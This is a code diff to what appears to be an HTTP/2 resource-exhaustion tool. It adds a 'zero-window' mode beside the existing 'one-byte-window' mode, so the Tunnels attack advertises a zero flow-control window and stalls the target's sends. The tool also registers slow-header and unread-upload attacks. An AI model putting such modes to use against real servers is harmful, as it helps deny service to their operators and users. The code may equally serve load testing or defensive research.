@@ -276,8 +276,11 @@ class SlowHeaders(Crowd):
         return connection
 
 
+_FIRST_WINDOW = {"one-byte-window": 1, "zero-window": 0}
+
+
 class Tunnels(Attack):
-    """Paid tunnels to a target that sends without end, which nobody reads, or a byte at a time."""
+    """Paid tunnels to a target that sends without end, which nobody reads, nobody lets send, or a byte at a time."""
 
     threads = 1
     count = 20
@@ -286,7 +289,7 @@ class Tunnels(Attack):
     def work(self) -> None:
         purse = Purse(Path(self.spec.servicekey), self.spec.relay, time.time)
         small = self.spec.attack == "one-byte-window"
-        window = frames.settings({4: 1 if small else 2**31 - 1})
+        window = frames.settings({4: _FIRST_WINDOW.get(self.spec.attack, 2**31 - 1)})
         begin = frames.PREFACE + window + frames.window_update(0, 2**31 - 2**17)
         open_ = []
         for _ in range(self.count):
@@ -355,6 +358,7 @@ _OTHERS: dict[str, type[Attack]] = {
     "slow-headers": SlowHeaders,
     "unread-tunnels": Tunnels,
     "unread-uploads": Uploads,
+    "zero-window": Tunnels,
     "one-byte-window": Tunnels,
 }
 
